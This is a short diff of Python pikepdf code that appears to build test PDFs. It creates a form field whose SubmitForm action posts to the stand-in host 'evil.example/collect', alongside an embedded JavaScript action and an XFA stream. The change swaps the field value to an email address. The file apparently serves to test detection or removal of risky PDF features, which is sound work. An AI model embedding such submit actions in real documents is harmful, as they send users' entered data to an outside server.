@@ -95,7 +95,7 @@ def with_photo(pdf: pikepdf.Pdf) -> None:
 def with_form(pdf: pikepdf.Pdf) -> None:
     widget = pdf.make_indirect(Dictionary(
         Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 90, 20], FT=Name.Tx, T=String("name"),
-        V=String("Maya"), A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
+        V=String("maya@example.com"), A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect")),
         AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("event.rc = true")))))
     pdf.pages[0].Annots = Array([*pdf.pages[0].get("/Annots", []), widget])
     pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
